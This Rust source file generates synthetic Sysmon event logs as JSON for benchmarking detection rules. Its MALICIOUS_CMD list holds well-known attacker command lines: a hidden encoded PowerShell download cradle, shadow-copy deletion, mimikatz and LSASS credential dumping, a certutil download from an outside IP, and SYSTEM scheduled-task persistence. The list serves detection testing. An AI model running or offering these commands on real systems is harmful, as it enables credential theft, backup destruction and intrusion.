//! A deterministic generator of Sysmon-shaped events for benchmarks.
//!
//! The events have the EVTX-as-JSON shape (Event.System / Event.EventData)
//! with the EventIDs, images, command lines, registry keys and domains of an
//! ordinary Windows fleet. About one event in a thousand carries a well-known
//! attacker command line, so that rules fire as they would on real data.

use std::io::Write;

/// splitmix64: tiny, fast and good enough for test data.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed)
    }
    pub fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    pub fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    pub fn pick<'a>(&mut self, xs: &'a [&'a str]) -> &'a str {
        xs[self.below(xs.len())]
    }
}

const IMAGES: &[&str] = &[
    r"C:\Windows\System32\svchost.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
    r"C:\Windows\System32\RuntimeBroker.exe",
    r"C:\Windows\System32\conhost.exe",
    r"C:\Program Files\Mozilla Firefox\firefox.exe",
    r"C:\Windows\System32\taskhostw.exe",
    r"C:\Windows\System32\backgroundTaskHost.exe",
    r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
    r"C:\Windows\System32\SearchProtocolHost.exe",
    r"C:\Program Files\WindowsApps\Microsoft.Teams\ms-teams.exe",
];

/// Ordinary process starts: (image, command line, parent image, parent command line, original file name).
const BENIGN_PROCS: &[(&str, &str, &str, &str, &str)] = &[
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        r"C:\Windows\System32\services.exe",
        r"C:\Windows\system32\services.exe",
        "svchost.exe",
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=fr --enable-features=NetworkService --field-trial-handle=1712,i,120931"#,
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe""#,
        "chrome.exe",
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle"#,
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
        "Outlook.exe",
    ),
    (
        r"C:\Windows\System32\RuntimeBroker.exe",
        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        "RuntimeBroker.exe",
    ),
    (
        r"C:\Windows\System32\taskhostw.exe",
        r"taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        "taskhostw.exe",
    ),
    (
        r"C:\Program Files\Mozilla Firefox\firefox.exe",
        r#""C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc --channel=1234 -childID 7 -isForBrowser"#,
        r"C:\Program Files\Mozilla Firefox\firefox.exe",
        r#""C:\Program Files\Mozilla Firefox\firefox.exe""#,
        "firefox.exe",
    ),
    (
        r"C:\Windows\System32\SearchProtocolHost.exe",
        r"C:\Windows\system32\SearchProtocolHost.exe Global\UsGthrFltPipeMssGthrPipe12_ Global\UsGthrCtrlFltPipeMssGthrPipe12",
        r"C:\Windows\System32\SearchIndexer.exe",
        r"C:\Windows\system32\SearchIndexer.exe /Embedding",
        "SearchProtocolHost.exe",
    ),
    (
        r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
        r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://intranet.example.fr/"#,
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
        "msedge.exe",
    ),
];

/// Images that open network connections in the generated data.
const NET_IMAGES: &[&str] = &[
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
    r"C:\Program Files\Mozilla Firefox\firefox.exe",
];

const MALICIOUS_CMD: &[&str] = &[
    r"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    r"vssadmin.exe delete shadows /all /quiet",
    r"C:\Users\Public\mimikatz.exe privilege::debug sekurlsa::logonpasswords exit",
    r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\lsass.dmp full",
    r"certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\Users\Public\a.exe",
    r"wmic shadowcopy delete",
    r"schtasks /create /sc minute /mo 5 /tn Updater /tr C:\Users\Public\u.exe /ru SYSTEM",
];

const DOMAINS: &[&str] = &[
    "www.google.com",
    "login.microsoftonline.com",
    "outlook.office365.com",
    "teams.microsoft.com",
    "update.googleapis.com",
    "intranet.example.fr",
    "cdn.jsdelivr.net",
];

const REG_KEYS: &[&str] = &[
    r"HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx",
    r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated",
    r"HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Office\16.0\Common\Roaming\Identities",
    r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1-2-3-1001",
];

fn esc(s: &str) -> String {
    serde_json::to_string(s).expect("string")
}

/// Write one event as a JSON line.
pub fn event(rng: &mut Rng, i: u64, out: &mut Vec<u8>) {
    let eid = [1, 1, 1, 3, 7, 7, 11, 13, 22, 22][rng.below(10)];
    let secs = 1_700_000_000 + i / 50;
    let ts =
        format!("2023-11-14T{:02}:{:02}:{:02}.{:06}Z", (secs / 3600) % 24, (secs / 60) % 60, secs % 60, i % 1_000_000);
    let image = rng.pick(IMAGES);
    let bad = rng.below(1000) == 0;
    let user = format!(r"CORP\user{:04}", rng.below(5000));
    let guid =
        format!("{{{:08X}-{:04X}-{:04X}-0000-000000000000}}", rng.next() as u32, rng.below(65536), rng.below(65536));
    let data = match eid {
        1 => {
            let (img, cmd, pimg, pcmd, ofn) = BENIGN_PROCS[rng.below(BENIGN_PROCS.len())];
            let (img, cmd, ofn) = if bad {
                (
                    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                    rng.pick(MALICIOUS_CMD),
                    "PowerShell.EXE",
                )
            } else {
                (img, cmd, ofn)
            };
            format!(
                r#""RuleName":"-","UtcTime":{ts},"ProcessGuid":{g},"ProcessId":{pid},"Image":{img},"FileVersion":"10.0.19041.1","Description":"Windows host process","Product":"Microsoft® Windows® Operating System","Company":"Microsoft Corporation","OriginalFileName":{ofn},"CommandLine":{cmd},"CurrentDirectory":"C:\\Windows\\system32\\","User":{user},"LogonGuid":{g},"LogonId":"0x3e7","TerminalSessionId":1,"IntegrityLevel":"Medium","Hashes":"SHA256=0E6D0D9D1B3A1F6B9C7A11D5AF93C5B7D5E21B4D8B6F2A5C9E1D7F3B2A4C6E8D","ParentProcessGuid":{g},"ParentProcessId":{ppid},"ParentImage":{pimg},"ParentCommandLine":{pcmd},"ParentUser":{user}"#,
                ts = esc(&ts),
                g = esc(&guid),
                pid = rng.below(60000),
                img = esc(img),
                cmd = esc(cmd),
                user = esc(&user),
                ppid = rng.below(60000),
                pimg = esc(pimg),
                pcmd = esc(pcmd),
                ofn = esc(ofn),
            )
        }
        3 => format!(
            r#""RuleName":"-","UtcTime":{ts},"ProcessGuid":{g},"ProcessId":{pid},"Image":{net},"User":{user},"Protocol":"tcp","Initiated":"true","SourceIsIpv6":"false","SourceIp":"10.1.{a}.{b}","SourceHostname":"PC{b}.corp.example.fr","SourcePort":{sp},"DestinationIsIpv6":"false","DestinationIp":"142.250.{a}.{b}","DestinationHostname":"-","DestinationPort":443,"DestinationPortName":"https""#,
            ts = esc(&ts),
            g = esc(&guid),
            pid = rng.below(60000),
            net = esc(rng.pick(NET_IMAGES)),
            user = esc(&user),
            a = rng.below(255),
            b = rng.below(255),
            sp = 49152 + rng.below(16000),
        ),
        7 => format!(
            r#""RuleName":"-","UtcTime":{ts},"ProcessGuid":{g},"ProcessId":{pid},"Image":{img},"ImageLoaded":{dll},"FileVersion":"10.0.19041.1","Description":"Windows DLL","Product":"Microsoft® Windows® Operating System","Company":"Microsoft Corporation","OriginalFileName":"kernelbase.dll","Hashes":"SHA256=1B2C","Signed":"true","Signature":"Microsoft Windows","SignatureStatus":"Valid","User":{user}"#,
            ts = esc(&ts),
            g = esc(&guid),
            pid = rng.below(60000),
            img = esc(image),
            dll = esc(rng.pick(&[
                r"C:\Windows\System32\KernelBase.dll",
                r"C:\Windows\System32\ntdll.dll",
                r"C:\Windows\System32\combase.dll"
            ])),
            user = esc(&user),
        ),
        11 => format!(
            r#""RuleName":"-","UtcTime":{ts},"ProcessGuid":{g},"ProcessId":{pid},"Image":{img},"TargetFilename":{tf},"CreationUtcTime":{ts},"User":{user}"#,
            ts = esc(&ts),
            g = esc(&guid),
            pid = rng.below(60000),
            img = esc(image),
            tf =
                esc(&format!(r"C:\Users\user{:04}\AppData\Local\Temp\tmp{:05}.tmp", rng.below(5000), rng.below(99999))),
            user = esc(&user),
        ),
        13 => format!(
            r#""RuleName":"-","EventType":"SetValue","UtcTime":{ts},"ProcessGuid":{g},"ProcessId":{pid},"Image":{img},"TargetObject":{key},"Details":"DWORD (0x00000001)","User":{user}"#,
            ts = esc(&ts),
            g = esc(&guid),
            pid = rng.below(60000),
            img = esc(image),
            key = esc(rng.pick(REG_KEYS)),
            user = esc(&user),
        ),
        _ => format!(
            r#""RuleName":"-","UtcTime":{ts},"ProcessGuid":{g},"ProcessId":{pid},"QueryName":{q},"QueryStatus":"0","QueryResults":"type:  5 {q2};::ffff:142.250.1.1;","Image":{img},"User":{user}"#,
            ts = esc(&ts),
            g = esc(&guid),
            pid = rng.below(60000),
            q = esc(rng.pick(DOMAINS)),
            q2 = rng.pick(DOMAINS),
            img = esc(image),
            user = esc(&user),
        ),
    };
    let _ = write!(
        out,
        r##"{{"Event":{{"System":{{"Provider":{{"#attributes":{{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}}}},"EventID":{eid},"Version":5,"Level":4,"Task":{eid},"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{{"#attributes":{{"SystemTime":{ts}}}}},"EventRecordID":{i},"Correlation":null,"Execution":{{"#attributes":{{"ProcessID":3208,"ThreadID":1724}}}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"PC{pc:04}.corp.example.fr","Security":{{"#attributes":{{"UserID":"S-1-5-18"}}}}}},"EventData":{{{data}}}}}}}"##,
        ts = esc(&ts),
        pc = rng.below(5000),
    );
    out.push(b'\n');
}

/// The same event in the flat Windows shape: `EventID`, `Channel`,
/// `Computer`, `Provider_Name`, `TimeCreated` and the EventData fields at the
/// top level, as many shippers write Sysmon.
pub fn flatten(nested: &[u8], out: &mut Vec<u8>) {
    let v: serde_json::Value = serde_json::from_slice(nested).expect("generated JSON is valid");
    let sys = &v["Event"]["System"];
    let mut flat = serde_json::Map::new();
    flat.insert("EventID".into(), sys["EventID"].clone());
    flat.insert("Channel".into(), sys["Channel"].clone());
    flat.insert("Computer".into(), sys["Computer"].clone());
    flat.insert("Provider_Name".into(), sys["Provider"]["#attributes"]["Name"].clone());
    flat.insert("TimeCreated".into(), sys["TimeCreated"]["#attributes"]["SystemTime"].clone());
    if let Some(data) = v["Event"]["EventData"].as_object() {
        flat.extend(data.clone());
    }
    serde_json::to_writer(&mut *out, &flat).expect("writing to memory");
    out.push(b'\n');
}

/// Write `n` events to `path` as JSON lines, nested (EVTX-as-JSON) or flat.
pub fn write_corpus(path: &std::path::Path, n: u64, seed: u64, flat: bool) -> std::io::Result<()> {
    let mut f = std::io::BufWriter::new(std::fs::File::create(path)?);
    let mut rng = Rng::new(seed);
    let mut buf = Vec::with_capacity(4096);
    let mut flat_buf = Vec::with_capacity(4096);
    for i in 0..n {
        buf.clear();
        event(&mut rng, i, &mut buf);
        if flat {
            flat_buf.clear();
            flatten(&buf, &mut flat_buf);
            f.write_all(&flat_buf)?;
        } else {
            f.write_all(&buf)?;
        }
    }
    f.flush()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn events_are_valid_json_and_deterministic() {
        let (mut a, mut b) = (Vec::new(), Vec::new());
        let (mut r1, mut r2) = (Rng::new(7), Rng::new(7));
        for i in 0..2000 {
            event(&mut r1, i, &mut a);
            event(&mut r2, i, &mut b);
        }
        assert_eq!(a, b);
        for line in a.split(|&c| c == b'\n').filter(|l| !l.is_empty()) {
            let v: serde_json::Value = serde_json::from_slice(line).unwrap();
            assert!(v["Event"]["System"]["EventID"].is_u64());
            let mut flat = Vec::new();
            flatten(line, &mut flat);
            let f: serde_json::Value = serde_json::from_slice(&flat).unwrap();
            assert_eq!(f["EventID"], v["Event"]["System"]["EventID"]);
            assert_eq!(f["Channel"], "Microsoft-Windows-Sysmon/Operational");
        }
    }
}
